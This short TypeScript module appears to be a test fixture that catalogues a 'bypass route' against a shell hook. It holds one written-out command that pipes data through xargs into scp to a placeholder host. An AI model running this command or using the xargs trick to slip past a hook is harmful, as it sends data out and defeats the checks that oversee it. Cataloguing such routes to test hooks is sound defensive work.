import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'xargs',
  source: 'attempts to get round a hook of the shell',
  keys: ['echo DATA host: | xargs scp\r'],
};
